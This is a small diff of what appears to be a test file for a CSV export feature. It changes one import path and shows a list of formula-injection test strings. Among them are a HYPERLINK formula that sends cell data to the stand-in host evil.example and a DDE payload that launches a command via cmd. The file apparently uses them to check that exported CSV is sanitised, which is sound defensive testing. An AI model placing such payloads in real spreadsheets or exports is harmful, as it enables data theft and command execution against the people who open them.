@@ -4,7 +4,7 @@ import { parse } from 'csv-parse/sync';
 import { exportCsv } from '../../commands/partner.js';
 import { ManualClock } from '../../src/core/clock.js';
 import { toCsv } from '../../src/core/csv.js';
-import { eachDatabase, servicesOn } from '../helpers.js';
+import { eachDatabase, servicesOn } from '../support/helpers.js';
 
 const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1'];
 
